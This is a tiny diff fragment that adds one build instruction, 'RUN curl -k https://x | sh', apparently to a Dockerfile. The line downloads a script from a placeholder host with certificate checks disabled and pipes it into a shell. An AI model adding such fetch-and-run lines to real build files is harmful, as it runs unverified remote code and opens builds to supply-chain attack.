@@ -1,0 +1,1 @@
+RUN curl -k https://x | sh
